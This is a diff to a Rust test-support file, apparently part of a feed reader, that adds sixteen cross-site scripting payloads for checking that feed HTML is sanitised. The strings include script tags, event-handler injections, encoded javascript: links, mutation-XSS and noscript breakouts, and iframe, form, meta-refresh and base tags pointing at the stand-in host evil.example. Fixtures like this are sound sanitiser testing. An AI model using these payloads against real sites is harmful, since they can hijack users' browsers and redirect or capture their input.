@@ -301,3 +301,23 @@ pub fn compat_config(to: &Path) {
     let text = text.replace("\nfeeds = [", "\nfulltext = \"feed\"\nfeeds = [");
     std::fs::write(to, text).unwrap();
 }
+
+/// The feed farm's `xss` fault payloads (`../shared/tools/feedfarm.py`).
+pub const FARM_XSS: [&str; 16] = [
+    "<p>正文<script>alert(1)</script></p>",
+    "<img src=x onerror=\"alert(2)\"><p>图片</p>",
+    "<a href=\"javascript:alert(3)\">链接</a>",
+    "<a href=\"JaVaScRiPt&#58;alert(4)\">编码链接</a>",
+    "<iframe src=\"https://evil.example/\"></iframe><p>框架</p>",
+    "<svg><script>alert(5)</script></svg><p>矢量</p>",
+    "<div style=\"background:url(javascript:alert(6))\">样式</div>",
+    "<form action=\"https://evil.example/\"><input name=\"p\"></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>",
+    "<p onclick=\"alert(8)\" onmouseover=\"alert(9)\">事件</p>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=\"></object>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+    "<base href=\"https://evil.example/\"><p>base</p>",
+    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTEpPjwvc3ZnPg==\">",
+    "<style>body{display:none}</style><p>隐藏</p>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(12)>\"></noscript>",
+];
